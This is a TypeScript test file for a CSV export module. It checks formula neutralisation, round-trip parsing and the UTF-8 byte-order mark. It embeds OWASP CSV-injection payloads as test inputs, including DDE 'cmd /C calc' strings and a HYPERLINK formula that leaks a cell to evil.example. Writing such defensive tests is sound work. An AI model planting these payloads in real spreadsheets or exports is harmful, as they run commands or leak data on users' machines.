import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, neutralise, toCsv, unneutralise } from '../../shared/csv';

describe('CSV export', () => {
  it('neutralises every text cell a spreadsheet would run as a formula', () => {
    for (const bad of ['=HYPERLINK("http://x")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd']) {
      expect(neutralise(bad).startsWith("'")).toBe(true);
    }
    expect(neutralise('plain text')).toBe('plain text');
    // The OWASP "CSV Injection" payloads: every one opens as text, the cell read back begins with '.
    const owasp = [
      "=cmd|' /C calc'!A0",
      "=cmd|' /C notepad'!'A1'",
      '=1+2";=1+2',
      '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
      "@SUM(1+9)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "+3+cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click for details")',
      '\t=1+1',
      '\r=1+1',
      "'=1+1",
    ];
    const file = toCsv(['cell'], owasp.map((v) => [v]));
    const back = parse<{ cell: string }>(file, { columns: true, bom: true }).map((r) => r.cell);
    for (const [i, cell] of back.entries()) {
      expect(cell.startsWith("'")).toBe(true);
      expect(unneutralise(cell)).toBe(owasp[i]);
    }
    expect(csvCell(-3)).toBe('-3'); // numbers are numbers, not formulas
  });

  it('writes cells that a CSV reader reads back exactly, after un-neutralising (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string(), { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 6 }), (rows) => {
        const text = toCsv(['a', 'b', 'c'], rows);
        const back = parse<Record<string, string>>(text, { columns: true, bom: true, relax_quotes: false });
        expect(back.map((r) => [r.a, r.b, r.c].map((v) => unneutralise(v ?? '')))).toEqual(rows);
        for (const r of back) for (const v of Object.values(r)) expect(/^[=+\-@\t\r]/.test(v)).toBe(false);
      }),
    );
  });

  it('starts with a UTF-8 byte-order mark, so spreadsheets read "–" and accents as written', () => {
    const bytes = Buffer.from(toCsv(['name'], [['Credit scoring – Nordics']]), 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe('name\r\nCredit scoring – Nordics\r\n');
  });
});
